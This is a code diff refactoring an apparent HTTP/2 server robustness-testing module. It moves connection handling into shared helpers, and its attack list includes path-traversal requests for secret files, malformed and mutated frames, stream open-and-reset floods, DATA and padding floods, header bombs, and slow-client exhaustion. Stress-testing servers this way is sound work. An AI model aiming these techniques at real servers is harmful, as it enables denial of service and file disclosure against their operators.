@@ -1,6 +1,7 @@
 import { setTimeout as sleep } from 'node:timers/promises';
 import { mutated } from '../../fuzz-importers/mutation.ts';
-import { type Attack, type AttackContext, again, hasTime } from '../attack.ts';
+import { type Attack, type AttackContext, hasTime, type Target } from '../attack.ts';
+import { connections, oneEach, SHORT_MS, slow } from '../connections.ts';
 import {
   FLAG,
   FRAME,
@@ -14,41 +15,36 @@ import {
   settings,
   word,
 } from '../http2-frames.ts';
-import { hostileFieldPath } from '../paths.ts';
+import { hostileFieldPath, METHODS } from '../paths.ts';
 import { dialTls, type Wire } from '../wire.ts';
 
-const ALPN = 'h2';
-const SHORT_MS = 150;
 const WHOLE = FLAG.endHeaders | FLAG.endStream;
 const LARGEST_WINDOW = 0x7fffffff;
 /** What any server takes as a frame. */
 const FRAME_BYTES = 16_384;
-const SLOW_CLIENTS = 300;
 
 /** What can be done to a server of HTTP/2. */
 export const HTTP2_ATTACKS: readonly Attack[] = [
   {
     name: 'paths out of the folder',
     run: (context) =>
-      again(context, 4, async () => {
+      connections(context, 4, dial, async (wire) => {
         const { choices, target } = context;
-        const wire = await dial(context);
-        for (let stream = 1; stream < 80 && wire && !wire.closed; stream += 2) {
+        for (let stream = 1; stream < 80 && !wire.closed; stream += 2) {
           const path = hostileFieldPath(choices, target.secretFiles, target.host);
-          const method = choices.pick(['GET', 'GET', 'GET', 'HEAD', 'POST', 'OPTIONS']);
+          const method = choices.pick(METHODS);
           const fields = requestFields(target.host, path, method);
           await wire.write(frame(FRAME.headers, WHOLE, stream, fieldBlock(fields)));
           context.sent();
           await sleep(5);
         }
-        await wire?.ended(SHORT_MS);
-        wire?.drop();
+        await wire.ended(SHORT_MS);
       }),
   },
   {
     name: 'malformed requests',
     run: (context) =>
-      oneEach(context, ({ choices, target }) => {
+      oneEach(context, 8, dial, ({ choices, target }) => {
         const fields = choices.pick(malformedFields(target.host, target.paths.small));
         return frame(FRAME.headers, WHOLE, 1, fieldBlock(fields));
       }),
@@ -56,15 +52,15 @@ export const HTTP2_ATTACKS: readonly Attack[] = [
   {
     name: 'damaged frames',
     run: (context) =>
-      oneEach(context, ({ choices, target }) => {
-        const get = fieldBlock(requestFields(target.host, target.paths.small));
+      oneEach(context, 8, dial, ({ choices, target }) => {
+        const fields = fieldBlock(requestFields(target.host, target.paths.small));
         return mutated(
           choices,
           Buffer.concat([
-            frame(FRAME.headers, FLAG.endHeaders, 1, get),
+            frame(FRAME.headers, FLAG.endHeaders, 1, fields),
             frame(FRAME.data, FLAG.endStream, 1, Buffer.from('hello')),
             frame(FRAME.windowUpdate, 0, 1, word(1000)),
-            frame(FRAME.headers, WHOLE, 3, get),
+            frame(FRAME.headers, WHOLE, 3, fields),
             frame(FRAME.ping, 0, 0, Buffer.alloc(8)),
             frame(FRAME.settings, 0, 0, settings([SETTING.window, 10], [SETTING.tableSize, 0])),
           ]),
@@ -74,7 +70,7 @@ export const HTTP2_ATTACKS: readonly Attack[] = [
   {
     name: 'frames out of place',
     run: (context) =>
-      oneEach(context, ({ choices }) => {
+      oneEach(context, 8, dial, ({ choices }) => {
         const size = choices.pick([
           0,
           1,
@@ -130,37 +126,21 @@ export const HTTP2_ATTACKS: readonly Attack[] = [
     run: (context) =>
       streams(context, (stream, { target }) =>
         Buffer.concat([
-          frame(
-            FRAME.headers,
-            WHOLE,
-            stream,
-            fieldBlock(requestFields(target.host, target.paths.large)),
-          ),
+          wholeGet(stream, target, target.paths.large),
           frame(FRAME.reset, 0, stream, word(8)),
         ]),
       ),
   },
   {
     name: 'streams never ended',
-    run: (context) =>
-      streams(context, (stream, { target }) =>
-        frame(
-          ...([FRAME.headers, FLAG.endHeaders, stream] as const),
-          fieldBlock(requestFields(target.host, target.paths.small, 'POST')),
-        ),
-      ),
+    run: (context) => streams(context, (stream, { target }) => postHead(stream, target)),
   },
   {
     name: 'resets made by the server',
     run: (context) =>
       streams(context, (stream, { target }) =>
         Buffer.concat([
-          frame(
-            FRAME.headers,
-            FLAG.endHeaders,
-            stream,
-            fieldBlock(requestFields(target.host, target.paths.small, 'POST')),
-          ),
+          postHead(stream, target),
           // No window may be made larger by nothing: the server has to reset the stream itself.
           frame(FRAME.windowUpdate, 0, stream, word(0)),
         ]),
@@ -187,14 +167,14 @@ export const HTTP2_ATTACKS: readonly Attack[] = [
   {
     name: 'empty DATA floods',
     run: (context) =>
-      endless(context, postHead, () =>
+      endless(context, beginPost, () =>
         Buffer.concat(Array.from({ length: 500 }, () => frame(FRAME.data, 0, 1))),
       ),
   },
   {
     name: 'padding alone',
     run: (context) =>
-      endless(context, postHead, () =>
+      endless(context, beginPost, () =>
         frame(
           FRAME.data,
           FLAG.padded,
@@ -206,7 +186,7 @@ export const HTTP2_ATTACKS: readonly Attack[] = [
   {
     name: 'huge bodies beyond every window',
     run: (context) =>
-      endless(context, postHead, () => frame(FRAME.data, 0, 1, Buffer.alloc(FRAME_BYTES))),
+      endless(context, beginPost, () => frame(FRAME.data, 0, 1, Buffer.alloc(FRAME_BYTES))),
   },
   {
     name: 'header bombs',
@@ -226,7 +206,7 @@ export const HTTP2_ATTACKS: readonly Attack[] = [
   {
     name: 'huge and many headers',
     run: (context) =>
-      oneEach(context, ({ choices, target }) => {
+      oneEach(context, 8, dial, ({ choices, target }) => {
         const many = Array.from({ length: 700 }, (_, index) => [`x-${index}`, 'y'] as const);
         const large = [['x-large', 'x'.repeat(15_000)]] as const;
         const fields = [
@@ -246,19 +226,12 @@ export const HTTP2_ATTACKS: readonly Attack[] = [
   {
     name: 'tiny windows',
     run: (context) =>
-      slow(context, async (wire, { target, choices }) => {
+      slow(context, dial, async (wire, { target, choices }) => {
         await wire.write(
           frame(FRAME.settings, 0, 0, settings([SETTING.window, choices.pick([0, 1, 10])])),
         );
         for (let stream = 1; stream < 40; stream += 2) {
-          await wire.write(
-            frame(
-              FRAME.headers,
-              WHOLE,
-              stream,
-              fieldBlock(requestFields(target.host, target.paths.large)),
-            ),
-          );
+          await wire.write(wholeGet(stream, target, target.paths.large));
         }
         for (let round = 0; hasTime(context) && !wire.closed; round++) {
           await wire.write(frame(FRAME.windowUpdate, 0, 1 + 2 * (round % 20), word(1)));
@@ -269,9 +242,8 @@ export const HTTP2_ATTACKS: readonly Attack[] = [
   {
     name: 'slow senders',
     run: (context) =>
-      slow(context, async (wire, { target }) => {
-        const request = frame(FRAME.headers, WHOLE, 1, fieldBlock(requestFields(target.host, '/')));
-        for (const byte of request) {
+      slow(context, dial, async (wire, { target }) => {
+        for (const byte of wholeGet(1, target, '/')) {
           if (!hasTime(context) || !(await wire.write(Buffer.from([byte])))) return;
           await sleep(300);
         }
@@ -280,17 +252,10 @@ export const HTTP2_ATTACKS: readonly Attack[] = [
   {
     name: 'slow readers',
     run: (context) =>
-      slow(context, async (wire, { target }) => {
+      slow(context, dial, async (wire, { target }) => {
         wire.socket.pause();
         for (let stream = 1; stream < 20; stream += 2) {
-          await wire.write(
-            frame(
-              FRAME.headers,
-              WHOLE,
-              stream,
-              fieldBlock(requestFields(target.host, target.paths.large)),
-            ),
-          );
+          await wire.write(wholeGet(stream, target, target.paths.large));
         }
         await wire.write(frame(FRAME.windowUpdate, 0, 0, word(LARGEST_WINDOW - 65_535)));
       }),
@@ -345,22 +310,22 @@ function malformedFields(host: string, path: string): [name: string, value: stri
   ];
 }
 
-/** A connection on which HTTP/2 has begun. */
-async function dial(context: AttackContext): Promise<Wire | null> {
-  const wire = await dialTls(context, ALPN);
-  await wire?.write(Buffer.concat([PREFACE, frame(FRAME.settings, 0, 0)]));
-  return wire;
+/** A whole request. */
+function wholeGet(stream: number, { host }: Target, path: string): Buffer {
+  return frame(FRAME.headers, WHOLE, stream, fieldBlock(requestFields(host, path)));
 }
 
-/** A connection for each, and a short wait for what comes back. */
-function oneEach(context: AttackContext, make: (context: AttackContext) => Buffer): Promise<void> {
-  return again(context, 8, async () => {
-    const wire = await dial(context);
-    await wire?.write(make(context));
-    await wire?.ended(SHORT_MS);
-    wire?.drop();
-    context.sent();
-  });
+/** A request whose body is still to come. */
+function postHead(stream: number, { host, paths }: Target): Buffer {
+  const fields = requestFields(host, paths.small, 'POST');
+  return frame(FRAME.headers, FLAG.endHeaders, stream, fieldBlock(fields));
+}
+
+/** A connection on which HTTP/2 has begun. */
+async function dial(context: AttackContext): Promise<Wire | null> {
+  const wire = await dialTls(context, 'h2');
+  await wire?.write(Buffer.concat([PREFACE, frame(FRAME.settings, 0, 0)]));
+  return wire;
 }
 
 const FRAMES_AT_ONCE = 200;
@@ -370,14 +335,12 @@ function flood(name: string, make: (context: AttackContext) => Buffer): Attack {
   return {
     name,
     run: (context) =>
-      again(context, 2, async () => {
-        const wire = await dial(context);
+      connections(context, 2, dial, async (wire) => {
         for (let pieces = 0; pieces < 500; pieces++) {
           const piece = Buffer.concat(Array.from({ length: FRAMES_AT_ONCE }, () => make(context)));
-          if (!(await wire?.write(piece))) break;
+          if (!(await wire.write(piece))) break;
           context.sent(FRAMES_AT_ONCE);
         }
-        wire?.drop();
       }),
   };
 }
@@ -387,20 +350,17 @@ function streams(
   context: AttackContext,
   make: (stream: number, context: AttackContext) => Buffer,
 ): Promise<void> {
-  return again(context, 2, async () => {
-    const wire = await dial(context);
+  return connections(context, 2, dial, async (wire) => {
     for (let stream = 1; stream < 20_000; stream += 2) {
-      if (!(await wire?.write(make(stream, context)))) break;
+      if (!(await wire.write(make(stream, context)))) break;
       context.sent();
     }
-    await wire?.ended(SHORT_MS);
-    wire?.drop();
+    await wire.ended(SHORT_MS);
   });
 }
 
-function postHead({ target }: AttackContext): Buffer {
-  const fields = requestFields(target.host, target.paths.small, 'POST');
-  return frame(FRAME.headers, FLAG.endHeaders, 1, fieldBlock(fields));
+function beginPost({ target }: AttackContext): Buffer {
+  return postHead(1, target);
 }
 
 /** One stream that goes on and on. */
@@ -409,28 +369,11 @@ function endless(
   begin: (context: AttackContext) => Buffer,
   more: (context: AttackContext) => Buffer,
 ): Promise<void> {
-  return again(context, 3, async () => {
-    const wire = await dial(context);
-    await wire?.write(begin(context));
+  return connections(context, 3, dial, async (wire) => {
+    await wire.write(begin(context));
     for (let pieces = 0; pieces < 3000; pieces++) {
-      if (!(await wire?.write(more(context)))) break;
+      if (!(await wire.write(more(context)))) break;
       context.sent();
     }
-    wire?.drop();
   });
-}
-
-/** Many slow clients at the same time, until time is over. */
-async function slow(
-  context: AttackContext,
-  behave: (wire: Wire, context: AttackContext) => Promise<void>,
-): Promise<void> {
-  const clients = Array.from({ length: SLOW_CLIENTS }, async () => {
-    const wire = await dial(context);
-    if (!wire) return;
-    context.sent();
-    await behave(wire, context);
-  });
-  await Promise.all(clients);
-  await sleep(Math.max(0, context.untilMs - performance.now()));
 }
